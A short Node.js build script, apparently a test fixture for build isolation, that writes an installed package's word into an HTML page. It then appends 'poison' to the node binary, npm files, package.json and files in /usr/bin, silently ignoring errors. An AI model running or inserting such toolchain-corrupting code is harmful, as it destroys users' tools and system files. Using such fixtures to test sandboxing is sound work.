// Shows the word that was installed, and then spoils whatever it can reach of it, and of the tools.
const fs = require('fs');
const path = require('path');
const word = fs.readFileSync('node_modules/word/word.txt', 'utf8');
fs.mkdirSync('dist', { recursive: true });
fs.writeFileSync('dist/index.html', `the word is ${word}`);
const tools = path.dirname(path.dirname(process.execPath));
const places = ['node_modules/word', tools, path.join(tools, 'bin'), path.join(tools, 'lib/node_modules/npm'), '/usr/bin'];
for (const place of places) {
  for (const name of ['word.txt', 'node', 'package.json', 'poison']) {
    try {
      fs.appendFileSync(path.join(place, name), 'poison');
    } catch {}
  }
}
